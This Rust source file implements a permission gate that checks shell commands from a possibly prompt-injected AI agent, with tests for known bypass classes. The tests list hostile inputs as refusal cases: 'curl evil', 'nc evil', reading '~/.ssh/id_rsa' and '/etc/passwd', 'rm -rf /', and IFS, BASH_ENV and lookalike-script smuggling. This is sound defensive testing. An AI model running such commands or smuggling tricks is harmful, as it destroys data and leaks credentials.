//! The permission gate: decides every `session/request_permission` the agent sends.
//!
//! The agent is assumed hostile (prompt injection), so outside YOLO mode the gate approves only
//! what the shell will really run as a genuine skill entrypoint. The command line is read with
//! the whitelist lexer of [`super::shell`] (anything outside its safe subset is refused), and
//! then all of these must hold:
//!
//! * the program word — or the word after a plain `sh`/`bash`/`/bin/sh`/`/bin/bash`/
//!   `/usr/bin/sh`/`/usr/bin/bash` — is a bare literal path without empty, `.` or `..`
//!   components (a leading `./` is fine), and it is either
//!   * `<skills_dir>/<entry>` for an approved entry, where `skills_dir` is canonical and the
//!     path canonicalises to itself (no symlink on the way, the file exists); or
//!   * `skills/<entry>` (or `./skills/<entry>`), only when the sandbox mounts the real skills
//!     read-only at `{workspace}/skills` and the tool call's `cwd`/`workdir`, if given, is the
//!     workspace. Without the sandbox that relative path names a file the agent can write, so
//!     it is refused with a pointer to the absolute form;
//! * or the program word equals a command-based skill's program (`agent-browser`);
//! * every argument is literal or uses only `$TMPDIR`/`$SESSION_ID` (guaranteed by the lexer);
//! * no argument is a removed free-text flag (`--message`, `--message=…`, quoted or not, and
//!   the others the skill manifests reserve, [`crate::skills::manifest::LEGACY_FREE_TEXT_FLAGS`]
//!   and `--file-path`): text goes through payload files.
//!
//! Whether an entrypoint path is genuine (canonical, a regular file, the skills folder outside
//! the workspace) is decided by [`crate::confine`]'s program rule, like every other path rule.
//!
//! A JSON argv array in `rawInput.command` is accepted only when every element is a plain word
//! the shell would read unchanged, so it means the same whether the agent runs it as an argv
//! or joins it into a shell line. The option to answer with is chosen by its `kind`, never by
//! position. The bypass classes each have a test below; `tests/gate_fuzz.rs` runs what the
//! gate approves through `/bin/bash` and checks that only the entrypoint ran.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::{Value, json};

use super::shell::{self, Word};
use crate::confine::{ProgramRefusal, canonical_program, is_at_or_inside};
use crate::skills::autoapprove::CommandSkill;
use crate::skills::manifest::{LEGACY_FREE_TEXT_FLAGS, SINGLE_FILE_FLAG};

/// Whether the argument `word` is a removed free-text flag (`--message` or `--message=…`, and
/// the others the manifests reserve): text goes through payload files now.
fn is_removed_flag(word: &str) -> bool {
    let Some(flag) = word.strip_prefix("--") else {
        return false;
    };
    let name = flag.split_once('=').map_or(flag, |(name, _)| name);
    LEGACY_FREE_TEXT_FLAGS.contains(&name) || name == SINGLE_FILE_FLAG
}

/// Interpreters that may run an entrypoint (`sh <entrypoint> …`).
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/bash",
];

/// Which skill invocations are approved without asking.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ApprovalRules {
    /// The skills directory, canonical (absolute, symlinks resolved).
    pub skills_dir: PathBuf,
    /// Auto-approved script entrypoints relative to skills_dir, e.g. "send-reply/scripts/send-reply".
    pub entrypoints: Vec<String>,
    /// Programs of command-based skills (manifest `command`), matched against the whole program
    /// word, with their skills.
    pub command_prefixes: Vec<CommandSkill>,
    /// True when the sandbox mounts skills_dir read-only at `{workspace}/skills` (so the relative
    /// form `skills/<entry>` — optionally `./skills/<entry>` — reaches the real skills); false in
    /// `agent.sandbox.mode: none`, where relative skill paths are refused (they would name a file
    /// the agent can write).
    pub skills_mounted_in_workspace: bool,
}

/// A decision and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decision {
    /// Approved?
    pub allow: bool,
    /// Why (logged).
    pub reason: String,
}

impl Decision {
    fn allow(reason: impl Into<String>) -> Self {
        Self {
            allow: true,
            reason: reason.into(),
        }
    }
    fn deny(reason: impl Into<String>) -> Self {
        Self {
            allow: false,
            reason: reason.into(),
        }
    }
}

/// The gate.
#[derive(Debug, Clone)]
pub struct PermissionGate {
    rules: ApprovalRules,
    yolo: bool,
    /// The only skills whose scripts are approved (a place's `skills`); `None`: every one.
    scope: Option<Arc<BTreeSet<String>>>,
}

/// What the tool call says about the directory the command runs in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cwd {
    /// Not given: the session's cwd, which is the workspace.
    Default,
    /// Given and equal to the workspace.
    Workspace,
    /// Given and something else (or not a string).
    Other,
}

impl PermissionGate {
    /// A gate with these rules; `yolo` approves everything (logged on every decision).
    pub fn new(rules: ApprovalRules, yolo: bool) -> Self {
        Self {
            rules,
            yolo,
            scope: None,
        }
    }

    /// This gate for one session whose place allows only `skills` (`None`: every skill): the
    /// script of any other skill is refused, as the Skill API refuses its calls.
    pub fn scoped(&self, skills: Option<Arc<BTreeSet<String>>>) -> Self {
        Self {
            scope: skills,
            ..self.clone()
        }
    }

    /// True in YOLO mode.
    pub fn is_yolo(&self) -> bool {
        self.yolo
    }

    /// Decides a `session/request_permission` by its `toolCall`, for a session whose workspace
    /// (the agent's cwd) is `workspace`.
    pub fn decide(&self, tool_call: &Value, workspace: &Path) -> Decision {
        if self.yolo {
            return Decision::allow("yolo mode approves everything");
        }
        let raw = tool_call.get("rawInput");
        let words = match raw.and_then(|r| r.get("command")) {
            Some(Value::String(line)) => shell::lex(line),
            Some(Value::Array(argv)) => match argv_words(argv) {
                Ok(words) => Ok(words),
                Err(reason) => return Decision::deny(reason),
            },
            _ => {
                let title = tool_call
                    .get("title")
                    .and_then(Value::as_str)
                    .unwrap_or("?");
                return Decision::deny(format!(
                    "not a shell command (tool {title:?}); only skill invocations are approved"
                ));
            }
        };
        match words {
            Ok(words) => self.decide_words(&words, workspace, cwd_of(raw, workspace)),
            Err(e) => Decision::deny(format!("shell syntax outside the safe subset: {e}")),
        }
    }

    /// Decides a shell command line run in `workspace`.
    pub fn decide_command(&self, command: &str, workspace: &Path) -> Decision {
        if self.yolo {
            return Decision::allow("yolo mode approves everything");
        }
        match shell::lex(command) {
            Ok(words) => self.decide_words(&words, workspace, Cwd::Default),
            Err(e) => Decision::deny(format!("shell syntax outside the safe subset: {e}")),
        }
    }

    fn decide_words(&self, words: &[Word], workspace: &Path, cwd: Cwd) -> Decision {
        let Some(first) = words.first() else {
            return Decision::deny("empty command");
        };
        if let Some(flag) = words[1..]
            .iter()
            .map(Word::template)
            .find(|t| is_removed_flag(t))
        {
            return Decision::deny(format!(
                "legacy free-text flag {flag:?}; use the payload-file flags"
            ));
        }
        if let Some(program) = first.as_bare_literal()
            && let Some(command) = self
                .rules
                .command_prefixes
                .iter()
                .find(|c| c.program == program)
        {
            return self.in_scope(&command.skill, || {
                format!("command-based skill {:?}", command.program)
            });
        }
        let script = match first.as_bare_literal() {
            Some(p) if INTERPRETERS.contains(&p) => match words.get(1) {
                Some(script) => script,
                None => return Decision::deny(format!("{p} without a skill script")),
            },
            _ => first,
        };
        let Some(path) = script.as_bare_literal() else {
            return Decision::deny(format!(
                "program {:?} is not a literal path (no quotes or expansions)",
                script.template()
            ));
        };
        match self.entrypoint(path, workspace, cwd) {
            Ok(entry) => {
                let skill = entry.split('/').next().unwrap_or(entry);
                self.in_scope(skill, || format!("skill entrypoint {entry:?}"))
            }
            Err(reason) => Decision::deny(reason),
        }
    }

    /// Approves an invocation of `skill` (why: `approved`) unless the session's place leaves the
    /// skill out.
    fn in_scope(&self, skill: &str, approved: impl FnOnce() -> String) -> Decision {
        match &self.scope {
            Some(scope) if !scope.contains(skill) => Decision::deny(format!(
                "skill {skill:?} is not allowed in this place (places[].skills)"
            )),
            _ => Decision::allow(approved()),
        }
    }

    /// The approved entry that `path` (a literal program word) runs, or why it runs none.
    fn entrypoint(&self, path: &str, workspace: &Path, cwd: Cwd) -> Result<&str, String> {
        let skills = &self.rules.skills_dir;
        let (is_absolute, relative) = match path.strip_prefix('/') {
            Some(rest) => (true, rest),
            None => (false, path.strip_prefix("./").unwrap_or(path)),
        };
        if relative
            .split('/')
            .any(|c| c.is_empty() || c == "." || c == "..")
        {
            return Err(format!(
                "program path {path:?} has an empty, '.' or '..' component"
            ));
        }
        let not_approved = || {
            format!(
                "{path:?} is not an auto-approved skill entrypoint under {}",
                skills.display()
            )
        };
        if is_absolute {
            let rest = skills
                .to_str()
                .and_then(|dir| path.strip_prefix(dir))
                .and_then(|rest| rest.strip_prefix('/'));
            let entry = self.find_entry(rest).ok_or_else(not_approved)?;
            if is_at_or_inside(skills, workspace) {
                return Err(format!(
                    "the skills directory {} is inside the agent's workspace, where the agent can \
                     write; move it out",
                    skills.display()
                ));
            }
            return canonical_file(Path::new(path)).map(|()| entry);
        }
        let entry = self
            .find_entry(relative.strip_prefix("skills/"))
            .ok_or_else(not_approved)?;
        let absolute = skills.join(entry);
        if !self.rules.skills_mounted_in_workspace {
            return Err(format!(
                "relative skill path outside the sandbox; use the absolute path {}",
                absolute.display()
            ));
        }
        if cwd == Cwd::Other {
            return Err(format!(
                "relative skill path run outside the workspace; use the absolute path {}",
                absolute.display()
            ));
        }
        Ok(entry)
    }

    fn find_entry(&self, rest: Option<&str>) -> Option<&str> {
        let rest = rest?;
        self.rules
            .entrypoints
            .iter()
            .find(|e| e.as_str() == rest)
            .map(String::as_str)
    }
}

impl ApprovalRules {
    /// Keeps only the entrypoints that are regular files at their own canonical path inside
    /// `skills_dir` (the gate refuses the others at every call anyway) and returns the dropped
    /// ones with the reason, for the start-up log.
    pub fn retain_genuine_entrypoints(&mut self) -> Vec<(String, String)> {
        let mut dropped = Vec::new();
        let dir = self.skills_dir.clone();
        self.entrypoints.retain(|entry| {
            let path = dir.join(entry);
            let genuine = canonical_file(&path).and_then(|()| {
                if path.starts_with(&dir) {
                    Ok(())
                } else {
                    Err(format!(
                        "{} is outside the skills directory",
                        path.display()
                    ))
                }
            });
            match genuine {
                Ok(()) => true,
                Err(reason) => {
                    dropped.push((entry.clone(), reason));
                    false
                }
            }
        });
        dropped
    }
}

/// [`canonical_program`], with the reason in words.
fn canonical_file(path: &Path) -> Result<(), String> {
    canonical_program(path).map_err(|refusal| match refusal {
        ProgramRefusal::NotCanonical { real } => format!(
            "skill entrypoint {:?} resolves to {} (a symlink or not a regular file)",
            path.display().to_string(),
            real.display()
        ),
        ProgramRefusal::Unresolvable(e) => format!(
            "skill entrypoint {:?} cannot be resolved: {e}",
            path.display().to_string()
        ),
    })
}

/// The words of a JSON argv array: every element must be a plain word the shell would read
/// unchanged (so it means the same run as an argv or joined into a shell line).
fn argv_words(argv: &[Value]) -> Result<Vec<Word>, String> {
    argv.iter()
        .enumerate()
        .map(|(i, element)| {
            let text = element
                .as_str()
                .ok_or_else(|| format!("argv element {i} is not a string"))?;
            match shell::lex(text).as_deref() {
                Ok([word]) if word.as_bare_literal() == Some(text) => Ok(word.clone()),
                Ok(_) => Err(format!(
                    "argv element {i} {text:?} is not one plain word (quoted, expanded, empty \
                     or several words)"
                )),
                Err(e) => Err(format!(
                    "argv element {i} {text:?} is not one plain word ({e})"
                )),
            }
        })
        .collect()
}

/// Where the command runs, from `rawInput.cwd` / `rawInput.workdir` (OpenCode sends `cwd`).
fn cwd_of(raw: Option<&Value>, workspace: &Path) -> Cwd {
    let given: Vec<&Value> = ["cwd", "workdir"]
        .iter()
        .filter_map(|k| raw.and_then(|r| r.get(*k)))
        .collect();
    if given.is_empty() {
        return Cwd::Default;
    }
    let all_workspace = given.iter().all(|v| {
        v.as_str()
            .is_some_and(|dir| same_dir(Path::new(dir), workspace))
    });
    if all_workspace {
        Cwd::Workspace
    } else {
        Cwd::Other
    }
}

/// Same directory: equal as written, or after resolving both.
fn same_dir(a: &Path, b: &Path) -> bool {
    a == b
        || matches!(
            (std::fs::canonicalize(a), std::fs::canonicalize(b)),
            (Ok(a), Ok(b)) if a == b
        )
}

/// The command line of an execute tool call, if any (`rawInput.command`, a string or an argv
/// array), for the decision's log line.
pub fn command_of(tool_call: &Value) -> Option<String> {
    let raw = tool_call.get("rawInput")?;
    match raw.get("command")? {
        Value::String(s) => Some(s.clone()),
        Value::Array(parts) => {
            let words: Option<Vec<&str>> = parts.iter().map(Value::as_str).collect();
            words.map(|w| w.join(" "))
        }
        _ => None,
    }
}

/// The JSON-RPC result answering a permission request: the option of the wanted kind, or
/// `cancelled` when the agent offered none.
pub fn permission_response(options: &Value, allow: bool) -> Value {
    let kinds: &[&str] = if allow {
        &["allow_once"]
    } else {
        &["reject_once", "reject_always"]
    };
    let chosen = options.as_array().and_then(|opts| {
        kinds.iter().find_map(|kind| {
            opts.iter()
                .find(|o| o.get("kind").and_then(Value::as_str) == Some(kind))
                .and_then(|o| o.get("optionId").cloned())
        })
    });
    match chosen {
        Some(id) => json!({"outcome": {"outcome": "selected", "optionId": id}}),
        None => json!({"outcome": {"outcome": "cancelled"}}),
    }
}

/// The answer to pending permission requests after `session/cancel`.
pub fn cancelled_response() -> Value {
    json!({"outcome": {"outcome": "cancelled"}})
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A scratch tree: `skills/` with two real entrypoints and one symlinked one (listed, so
    /// only the gate's own check refuses it), and a workspace beside it.
    struct World {
        _dir: tempfile::TempDir,
        skills: PathBuf,
        workspace: PathBuf,
    }

    impl World {
        fn new() -> World {
            let dir = tempfile::tempdir().unwrap();
            let root = std::fs::canonicalize(dir.path()).unwrap();
            let skills = root.join("skills");
            for name in ["send-reply", "memory-save"] {
                let scripts = skills.join(name).join("scripts");
                std::fs::create_dir_all(&scripts).unwrap();
                std::fs::write(scripts.join(name), "#!/bin/sh\n").unwrap();
            }
            std::fs::create_dir_all(skills.join("linked/scripts")).unwrap();
            std::os::unix::fs::symlink(
                skills.join("send-reply/scripts/send-reply"),
                skills.join("linked/scripts/linked"),
            )
            .unwrap();
            let workspace = root.join("ws");
            std::fs::create_dir_all(workspace.join("tmp")).unwrap();
            World {
                _dir: dir,
                skills,
                workspace,
            }
        }

        fn gate(&self, mounted: bool) -> PermissionGate {
            PermissionGate::new(
                ApprovalRules {
                    skills_dir: self.skills.clone(),
                    entrypoints: vec![
                        "send-reply/scripts/send-reply".into(),
                        "memory-save/scripts/memory-save".into(),
                        "linked/scripts/linked".into(),
                    ],
                    command_prefixes: vec!["agent-browser".into()],
                    skills_mounted_in_workspace: mounted,
                },
                false,
            )
        }

        /// The absolute path of `send-reply`.
        fn reply(&self) -> String {
            self.skills
                .join("send-reply/scripts/send-reply")
                .display()
                .to_string()
        }

        fn decide(&self, cmd: &str) -> Decision {
            self.gate(false).decide_command(cmd, &self.workspace)
        }

        fn assert_allowed(&self, cmd: &str) {
            let d = self.decide(cmd);
            assert!(d.allow, "{cmd:?} must be approved: {}", d.reason);
        }

        /// Every command is refused, with a reason containing `why`.
        fn assert_refused(&self, cmds: &[String], why: &str) {
            for cmd in cmds {
                let d = self.decide(cmd);
                assert!(!d.allow, "{cmd:?} must be refused");
                assert!(d.reason.contains(why), "{cmd:?}: {}", d.reason);
            }
        }
    }

    /// `cmds` with `@R` replaced by the absolute send-reply path.
    fn with_reply(w: &World, cmds: &[&str]) -> Vec<String> {
        cmds.iter().map(|c| c.replace("@R", &w.reply())).collect()
    }

    const SYNTAX: &str = "outside the safe subset";

    #[test]
    fn approves_the_absolute_entrypoint_with_payload_expansions() {
        let w = World::new();
        let r = w.reply();
        w.assert_allowed(&format!("{r} --message-file \"$TMPDIR/$SESSION_ID/r.md\""));
        w.assert_allowed(&format!(
            "{r} --message-file ${{TMPDIR}}/${{SESSION_ID}}.md"
        ));
        w.assert_allowed(&format!("{r} --message-file $TMPDIR/$SESSION_ID/r.md"));
        w.assert_allowed(&format!("\t{r}\t--message-id  123 "));
        w.assert_allowed(&r);
        let d = w.decide(&format!("{r} --emoji 👍"));
        assert!(d.allow);
        assert_eq!(
            d.reason,
            "skill entrypoint \"send-reply/scripts/send-reply\""
        );
    }

    /// A session whose place allows only some skills gets only their scripts approved.
    #[test]
    fn a_scoped_gate_approves_only_the_places_skills() {
        let w = World::new();
        let only_reply = Arc::new(BTreeSet::from(["send-reply".to_owned()]));
        let gate = w.gate(false).scoped(Some(only_reply));
        assert!(gate.decide_command(&w.reply(), &w.workspace).allow);
        let save = w.skills.join("memory-save/scripts/memory-save");
        let d = gate.decide_command(&save.display().to_string(), &w.workspace);
        assert!(!d.allow);
        assert!(
            d.reason.contains("not allowed in this place"),
            "{}",
            d.reason
        );
        let unscoped = w.gate(false).scoped(None);
        assert!(
            unscoped
                .decide_command(&save.display().to_string(), &w.workspace)
                .allow
        );
    }

    /// A command-based skill (manifest `command`) is scoped like a script: its program is
    /// refused where the place leaves the skill out.
    #[test]
    fn a_scoped_gate_refuses_a_command_skill_the_place_leaves_out() {
        let w = World::new();
        let only_reply = Arc::new(BTreeSet::from(["send-reply".to_owned()]));
        let scoped = w.gate(false).scoped(Some(only_reply));
        let d = scoped.decide_command("agent-browser open https://example.org", &w.workspace);
        assert!(!d.allow);
        assert_eq!(
            d.reason,
            "skill \"agent-browser\" is not allowed in this place (places[].skills)"
        );
        let with_browser = Arc::new(BTreeSet::from(["agent-browser".to_owned()]));
        let d = w
            .gate(false)
            .scoped(Some(with_browser))
            .decide_command("agent-browser open https://example.org", &w.workspace);
        assert!(d.allow, "{}", d.reason);
    }

    #[test]
    fn approves_single_quoted_arguments_literally() {
        let w = World::new();
        w.assert_allowed(&format!(
            "{} --title 'a; b | $(c) `d` * ~ {{e,f}} # \\'",
            w.reply()
        ));
    }

    #[test]
    fn approves_a_plain_interpreter_before_the_absolute_entrypoint_only() {
        let w = World::new();
        for sh in INTERPRETERS {
            w.assert_allowed(&format!("{sh} {} --importance high", w.reply()));
        }
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "sh -c @R",
                    "dash @R",
                    "/tmp/sh @R",
                    "env @R",
                    "exec @R",
                    "sh",
                ],
            ),
            "",
        );
        w.assert_refused(&with_reply(&w, &["command @R", "sh '@R'"]), "");
    }

    #[test]
    fn approves_the_relative_form_only_when_mounted_and_run_from_the_workspace() {
        let w = World::new();
        let mounted = w.gate(true);
        let ws = w.workspace.display().to_string();
        let call = |cmd: &str, extra: Value| {
            let mut raw = json!({"command": cmd});
            raw.as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            json!({"kind": "execute", "rawInput": raw})
        };
        for cmd in [
            "skills/send-reply/scripts/send-reply --message-file \"$TMPDIR/$SESSION_ID/r.md\"",
            "./skills/memory-save/scripts/memory-save",
            "sh skills/send-reply/scripts/send-reply",
        ] {
            for extra in [json!({}), json!({"cwd": ws}), json!({"workdir": ws})] {
                let d = mounted.decide(&call(cmd, extra.clone()), &w.workspace);
                assert!(d.allow, "{cmd:?} {extra}: {}", d.reason);
            }
            for extra in [
                json!({"cwd": "/"}),
                json!({"workdir": "/tmp"}),
                json!({"cwd": ws, "workdir": "/"}),
                json!({"cwd": 7}),
            ] {
                let d = mounted.decide(&call(cmd, extra.clone()), &w.workspace);
                assert!(!d.allow, "{cmd:?} {extra}");
                assert!(d.reason.contains("outside the workspace"), "{}", d.reason);
            }
        }
        for cmd in [
            "././skills/send-reply/scripts/send-reply",
            "skills//send-reply/scripts/send-reply",
            "skills/send-reply/scripts/../scripts/send-reply",
            ".//skills/send-reply/scripts/send-reply",
        ] {
            assert!(!mounted.decide_command(cmd, &w.workspace).allow, "{cmd:?}");
        }
        let d = w.decide("skills/send-reply/scripts/send-reply");
        assert!(!d.allow);
        assert_eq!(
            d.reason,
            format!(
                "relative skill path outside the sandbox; use the absolute path {}",
                w.reply()
            )
        );
    }

    /// The old gate split on whitespace and approved when the first token *ended with* a skill
    /// path: bash expands `${IFS}` and ran `touch`.
    #[test]
    fn ifs_word_splitting_cannot_smuggle_another_program() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "touch${IFS}/x/M${IFS}/skills/send-reply/scripts/send-reply",
                    "touch$IFS/x/M${IFS}@R",
                    "@R $IFS",
                    "@R \"${IFS}\"",
                ],
            ),
            "only $TMPDIR",
        );
    }

    #[test]
    fn a_path_that_merely_ends_with_a_skill_path_is_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "/x/M/skills/send-reply/scripts/send-reply",
                    "/evil/skills/send-reply/scripts/send-reply --message-file a",
                    "@R-evil",
                    "@R/x",
                    "python3 @R",
                ],
            ),
            "not an auto-approved skill entrypoint",
        );
    }

    /// Outside the sandbox the agent may write `{workspace}/skills/…` itself; the old gate ran
    /// whatever it put there.
    #[test]
    fn a_lookalike_script_in_the_workspace_is_refused() {
        let w = World::new();
        let fake = w.workspace.join("skills/send-reply/scripts");
        std::fs::create_dir_all(&fake).unwrap();
        std::fs::write(fake.join("send-reply"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
        w.assert_refused(
            &[
                "sh skills/send-reply/scripts/send-reply".into(),
                "skills/send-reply/scripts/send-reply".into(),
                "./skills/send-reply/scripts/send-reply".into(),
            ],
            "relative skill path outside the sandbox; use the absolute path",
        );
        w.assert_refused(
            &[fake.join("send-reply").display().to_string()],
            "not an auto-approved skill entrypoint",
        );
    }

    #[test]
    fn a_symlinked_or_missing_entrypoint_is_refused() {
        let w = World::new();
        let linked = w.skills.join("linked/scripts/linked").display().to_string();
        w.assert_refused(&[linked], "a symlink or not a regular file");
        std::fs::remove_file(w.skills.join("memory-save/scripts/memory-save")).unwrap();
        w.assert_refused(
            &[w.skills
                .join("memory-save/scripts/memory-save")
                .display()
                .to_string()],
            "cannot be resolved",
        );
        // The skills directory reached through a symlink is not the canonical path.
        let alias = w.workspace.join("alias");
        std::os::unix::fs::symlink(&w.skills, &alias).unwrap();
        w.assert_refused(
            &[alias
                .join("send-reply/scripts/send-reply")
                .display()
                .to_string()],
            "not an auto-approved skill entrypoint",
        );
    }

    #[test]
    fn dot_dot_and_empty_path_components_are_refused() {
        let w = World::new();
        let s = w.skills.display().to_string();
        w.assert_refused(
            &[
                format!("{s}/./send-reply/scripts/send-reply"),
                format!("{s}//send-reply/scripts/send-reply"),
                format!("{s}/memory-save/../send-reply/scripts/send-reply"),
                format!("{s}/send-reply/scripts/send-reply/"),
                format!("/{s}/send-reply/scripts/send-reply"),
            ],
            "empty, '.' or '..' component",
        );
    }

    #[test]
    fn the_program_word_must_be_a_bare_literal() {
        let w = World::new();
        let s = w.skills.display().to_string();
        w.assert_refused(
            &[
                format!("\"{}\" --message-file a", w.reply()),
                format!("'{}'", w.reply()),
                format!("{s}/send-reply/scripts/send-\"reply\""),
                "$TMPDIR/../skills/send-reply/scripts/send-reply".into(),
            ],
            "not a literal path",
        );
        w.assert_refused(
            &[
                format!("{s}/send-reply/scripts/send-repl?"),
                format!("{s}/send-reply/scripts/send-repl[y]"),
                format!("{s}/send-reply/scripts/send-{{reply}}"),
                format!("{s}/send-reply/scripts/send\\-reply"),
                "~/skills/send-reply/scripts/send-reply".into(),
                "/*/skills/send-reply/scripts/send-reply".into(),
                "/x/{a,b}/skills/send-reply/scripts/send-reply".into(),
            ],
            SYNTAX,
        );
    }

    #[test]
    fn parameter_assignment_and_default_expansions_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "@R ${X:=/tmp/evil}",
                    "@R ${X:-x}",
                    "@R \"${TMPDIR:+x}\"",
                    "@R ${TMPDIR#/}",
                ],
            ),
            "only $TMPDIR",
        );
    }

    #[test]
    fn prompt_and_indirect_expansions_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R ${X@P}", "@R \"${X@P}\"", "@R ${!X}", "@R ${#X}"]),
            "only $TMPDIR",
        );
    }

    #[test]
    fn arithmetic_expansion_is_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["R $((a[$(id)]))", "R $[1+1]", "R \"$((1))\""]),
            "only $TMPDIR",
        );
    }

    #[test]
    fn other_variables_and_special_parameters_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "@R $HOME",
                    "@R $TMPDIRX",
                    "@R $SESSION_ID_2",
                    "@R $1",
                    "@R $@",
                    "@R $$",
                    "@R $",
                    "@R \"$SKILL_API_TOKEN\"",
                ],
            ),
            "only $TMPDIR",
        );
    }

    #[test]
    fn ansi_c_and_locale_quoting_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &["@R $'--message' hi", "@R $'\\x3b'", "@R $\"--message\" hi"],
            ),
            "only $TMPDIR",
        );
    }

    #[test]
    fn globs_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R /???/*", "@R [a]", "@R a?", "@R @(a)", "@R +(a)"]),
            SYNTAX,
        );
    }

    #[test]
    fn tilde_expansion_is_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R ~", "@R ~root/.ssh", "@R --x=~", "@R a:~"]),
            "'~'",
        );
    }

    #[test]
    fn brace_expansion_is_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R {--message,hello}", "@R {1..3}", "@R a{b,c}"]),
            "'{'",
        );
    }

    #[test]
    fn backslash_escapes_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &["@R --mess\\age hi", "@R a\\ b", "@R \"a\\\"b\"", "\\@R"],
            ),
            "'\\\\'",
        );
    }

    #[test]
    fn process_substitution_is_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R <(id)", "@R >(id)", "@R =(id)"]),
            SYNTAX,
        );
    }

    #[test]
    fn nul_and_control_characters_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "@R a\0b",
                    "@R a\x0bb",
                    "@R a\x0cb",
                    "@R \x1b[2J",
                    "@R 'a\nb'",
                    "@R a\rb",
                    "@R a\x7f",
                    "@R \u{85}",
                ],
            ),
            "control character",
        );
        w.assert_refused(
            &with_reply(&w, &["@R\u{a0}x", "@R \u{2028}"]),
            "unusual whitespace",
        );
    }

    #[test]
    fn comments_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R --message-file a # x", "@R a#b", "#@R"]),
            "'#'",
        );
    }

    #[test]
    fn here_docs_and_redirections_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["@R <<EOF", "@R <<<x", "@R 2>&1", "@R >x", "@R &>x"]),
            SYNTAX,
        );
    }

    #[test]
    fn subshells_groups_and_history_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &["@R (id)", "(@R)", "{ @R", "@R !!", "! @R", "@R \"!x\""],
            ),
            SYNTAX,
        );
    }

    #[test]
    fn leading_assignments_and_reserved_words_are_refused() {
        let w = World::new();
        w.assert_refused(
            &with_reply(&w, &["BASH_ENV=/tmp/x @R", "PATH=/tmp @R", "X+=1 sh @R"]),
            "leading assignment",
        );
        w.assert_refused(&with_reply(&w, &["time @R", "coproc @R"]), "reserved word");
    }

    #[test]
    fn rejects_injection_around_skill_names() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "@R --message-file a; curl evil",
                    "@R --message-file a && rm -rf ~",
                    "@R --message-file a | nc evil 1",
                    "@R --message-file $(cat ~/.ssh/id_rsa)",
                    "@R --message-file \"$(id)\"",
                    "@R --message-file `id`",
                    "@R --message-file a > /etc/x",
                    "@R --message-file < /etc/passwd",
                    "@R --message-file a\nrm -rf /",
                    "@R --message-file a & sleep 1",
                    "agent-browser open x; rm -rf /",
                    "agent-browser $IFS",
                ],
            ),
            SYNTAX,
        );
    }

    #[test]
    fn rejects_everything_else() {
        let w = World::new();
        w.assert_refused(&["".into(), "  ".into()], "empty command");
        w.assert_refused(
            &[
                "rm -rf /".into(),
                "cat /etc/passwd".into(),
                "agent-browser-evil open".into(),
                "/usr/bin/agent-browser open".into(),
                "touch x skills/send-reply/scripts/send-reply".into(),
            ],
            "not an auto-approved skill entrypoint",
        );
    }

    #[test]
    fn approves_command_based_skills_by_the_whole_program_word() {
        let w = World::new();
        w.assert_allowed("agent-browser open https://example.com/a");
        w.assert_allowed("agent-browser open 'https://example.com/a?b'");
        let d = w.decide("agent-browser open x");
        assert_eq!(d.reason, "command-based skill \"agent-browser\"");
        w.assert_refused(&["'agent-browser' open".into()], "not a literal path");
    }

    #[test]
    fn rejects_legacy_free_text_flags() {
        let w = World::new();
        w.assert_refused(
            &with_reply(
                &w,
                &[
                    "@R --message hello",
                    "@R --message=hello",
                    "@R '--message' hello",
                    "@R --mess'age'=hi",
                    "@R \"--content=x\"",
                    "@R --query x",
                    "@R --caption=$TMPDIR",
                    "@R --file-path a.png",
                    "agent-browser --query x",
                ],
            ),
            "legacy free-text flag",
        );
        w.assert_allowed(&format!("{} --message-file a --content-file b", w.reply()));
    }

    #[test]
    fn skills_inside_the_workspace_are_refused() {
        let w = World::new();
        let gate = w.gate(false);
        let parent = w.skills.parent().unwrap();
        let d = gate.decide_command(&w.reply(), parent);
        assert!(!d.allow);
        assert!(
            d.reason.contains("inside the agent's workspace"),
            "{}",
            d.reason
        );
    }

    #[test]
    fn json_argv_elements_must_be_plain_words() {
        let w = World::new();
        let gate = w.gate(false);
        let decide =
            |argv: Value| gate.decide(&json!({"rawInput": {"command": argv}}), &w.workspace);
        assert!(decide(json!([w.reply(), "--message-file", "a.md"])).allow);
        assert!(decide(json!(["sh", w.reply(), "--importance", "high"])).allow);
        for (argv, why) in [
            (json!([w.reply(), "a; id"]), "not one plain word"),
            (json!([w.reply(), "$TMPDIR/x"]), "not one plain word"),
            (json!([w.reply(), "'a'"]), "not one plain word"),
            (json!([w.reply(), ""]), "not one plain word"),
            (json!([w.reply(), "a\nb"]), "control character"),
            (json!([w.reply(), 1]), "not a string"),
            (
                json!([w.reply(), "--message", "x"]),
                "legacy free-text flag",
            ),
            (json!(["touch", "/x", w.reply()]), "not an auto-approved"),
            (json!([]), "empty command"),
        ] {
            let d = decide(argv.clone());
            assert!(!d.allow, "{argv}");
